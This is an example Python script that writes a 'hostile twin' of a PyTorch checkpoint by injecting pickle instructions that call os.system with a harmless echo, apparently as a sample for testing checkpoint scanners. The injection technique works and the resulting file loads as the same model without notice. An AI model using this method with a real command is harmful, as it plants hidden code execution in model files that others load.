"""Write `digits-hostile.pth`: the checkpoint beside this file, plus one call.

Standard library only. The pickle of `digits.pth` is taken as it is; just before it ends, five
instructions are put in that call `os.system` with a harmless `echo` and throw the result away.
Whoever loads the file with an unpickler that runs what it reads gets the same model as before
and does not notice. It exists to be scanned: there is no reason ever to load it.

    python examples/hostile_twin.py
    unzip examples/digits-hostile.pth digits/data.pkl && python -m pickletools digits/data.pkl
"""

from __future__ import annotations

import pickle
import struct
import zipfile
from pathlib import Path

COMMAND = "echo this line was printed by the checkpoint"
ALIGNMENT = 64  # where torch lets a storage begin
HERE = Path(__file__).parent


def call(command: str) -> bytes:
    """Pickle instructions that call os.system(command) and drop what it returns."""
    text = command.encode()
    argument = pickle.BINUNICODE + struct.pack("<I", len(text)) + text
    return pickle.GLOBAL + b"os\nsystem\n" + argument + pickle.TUPLE1 + pickle.REDUCE + pickle.POP


def poison(program: bytes) -> bytes:
    """The same pickle program, with the call before its last instruction."""
    if not program.endswith(pickle.STOP):
        raise SystemExit("data.pkl does not end where its program ends")
    return program[:-1] + call(COMMAND) + pickle.STOP


def padding(position: int, name: str) -> bytes:
    """The extra field with which torch moves a member's bytes to a multiple of ALIGNMENT."""
    start = position + 30 + len(name.encode()) + 4
    fill = -start % ALIGNMENT
    return b"FB" + struct.pack("<H", fill) + b"Z" * fill


def main() -> None:
    """Copy every member of the zip; only data.pkl changes. zipfile computes the checksums."""
    source, target = HERE / "digits.pth", HERE / "digits-hostile.pth"
    with zipfile.ZipFile(source) as honest, zipfile.ZipFile(target, "w") as twin:
        for member in honest.infolist():
            data = honest.read(member)
            info = zipfile.ZipInfo(member.filename)
            info.extra = padding(twin.start_dir, member.filename)
            twin.writestr(info, poison(data) if member.filename.endswith("/data.pkl") else data)
            info.extra = b""  # the padding belongs to the local header, not to the directory
    print(f"wrote {target.name}: {target.stat().st_size:,} bytes")


if __name__ == "__main__":
    main()
